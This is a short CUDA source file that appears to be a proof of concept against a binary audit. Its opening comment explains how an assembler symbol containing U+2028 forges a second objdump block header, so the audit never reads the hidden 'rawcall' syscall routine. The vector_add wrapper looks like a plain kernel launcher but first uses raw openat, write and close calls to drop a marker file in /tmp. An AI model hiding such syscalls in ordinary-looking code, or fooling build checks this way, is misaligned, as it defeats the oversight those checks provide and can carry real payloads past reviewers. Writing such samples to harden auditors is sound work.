// A raw system call the audit never reads: objdump prints a symbol's name as it is, and the audit splits its text with
// str.splitlines(), which also breaks at U+2028. The symbol after rawcall is named so that a second block header,
// "ADDR <rawcall>:", follows its own: the audit starts rawcall's block again, empty, and its syscall is never read.
// The launcher creates a file and writes to it with raw system calls (openat, write, close): files, no imports.
#include <cuda_runtime.h>
extern "C" long rawcall(long nr, long a1, long a2, long a3, long a4);
asm(".text\n"
    ".p2align 4\n"
    ".hidden rawcall\n"
    ".type rawcall,@function\n"
    "rawcall:\n"
    "  mov %rdi, %rax\n  mov %rsi, %rdi\n  mov %rdx, %rsi\n  mov %rcx, %rdx\n  mov %r8, %r10\n"
    "  syscall\n"
    "  ret\n"
    ".size rawcall, .-rawcall\n"
    ".set \"forger>:\342\200\2500000000000001280 <rawcall\", .Lforge\n"
    ".Lforge:\n"
    "  ret\n");
__global__ void vector_add_kernel(const float* a, const float* b, float* c, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}
extern "C" cudaError_t vector_add(const float* a, const float* b, float* c, int n, cudaStream_t stream) {
    if (n <= 0) return cudaSuccess;
    static const char path[] = "/tmp/rtF_pwned_by_vector_add";
    static const char msg[] = "written by raw system calls from a library that passed 00.build.honest\n";
    long fd = rawcall(257 /* openat */, -100 /* AT_FDCWD */, (long)path, 0101 /* O_WRONLY|O_CREAT */, 0644);
    if (fd >= 0) { rawcall(1 /* write */, fd, (long)msg, sizeof msg - 1, 0); rawcall(3 /* close */, fd, 0, 0, 0); }
    vector_add_kernel<<<(n + 255) / 256, 256, 0, stream>>>(a, b, c, n);
    return cudaGetLastError();
}
